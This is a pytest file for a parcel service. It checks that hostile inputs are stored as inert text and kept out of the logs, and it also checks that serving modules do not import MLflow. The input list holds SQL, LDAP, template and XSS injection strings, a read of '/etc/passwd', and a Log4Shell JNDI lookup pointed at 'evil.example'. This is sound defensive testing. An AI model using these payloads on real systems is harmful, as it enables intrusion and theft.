"""Hostile input that no other test is about, and what the service does not depend on."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from serving.app import create_app
from serving.store import Role
from tests.architecture.test_modules import MODULES, ROOT
from tests.conftest import Clock
from tests.serving.api.test_parcels import EXAMPLE
from tests.serving.bare import bare_settings, client_key
from tests.serving.conftest import bearer

TEXTS = (
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "*)(uid=*))(|(uid=*",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/x}",
    "one\r\nlevel=info event=ready",
    "\x1b[2J\x1b[31mred",
    "=HYPERLINK(0)",
    "<script>alert(1)</script>",
)


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, str, str]]:
    settings = bare_settings(tmp_path_factory.mktemp("input"))
    post, officer = client_key(settings, "post", "post-a"), client_key(settings, "olga", None, Role.OFFICER)
    with TestClient(create_app(settings, Clock()), raise_server_exceptions=False) as http:
        yield http, post, officer


def test_text_that_would_be_a_command_elsewhere_is_a_parcels_text_here(
    api: tuple[TestClient, str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Fault 51: what is lodged is read back as text; no line of the log holds any of it."""
    http, post, officer = api
    capsys.readouterr()
    http.post("/station/login", data={"key": officer})
    for n, text in enumerate(TEXTS):
        parcel = {**EXAMPLE, "parcel_id": f"INPUT{n:05d}", "sender_name": text, "recipient_street": text}
        assert http.post("/v1/parcels", json=parcel, headers=bearer(post)).status_code == 200
        page = http.get("/station", params={"parcel": parcel["parcel_id"]})
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        assert http.get("/v1/parcels/" + parcel["parcel_id"], headers=bearer(officer)).status_code == 200
    said = "".join(capsys.readouterr())
    assert not any(part in said for part in ("DROP TABLE", "jndi", "event=ready", "\x1b[2J", "HYPERLINK"))


def test_nothing_that_serves_imports_the_registry_of_models() -> None:
    """Fault 39: MLflow may be away, because nothing on the path of a parcel knows it."""
    serving = [path for path in MODULES if path.relative_to(ROOT).parts[0] in ("serving", "features", "policy")]
    assert len(serving) > 200
    assert [path.name for path in serving if "mlflow" in _imported(path)] == []


def _imported(path: Path) -> set[str]:
    names: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Import):
            names |= {one.name.split(".")[0] for one in node.names}
        elif isinstance(node, ast.ImportFrom):
            names.add((node.module or "").split(".")[0])
    return names
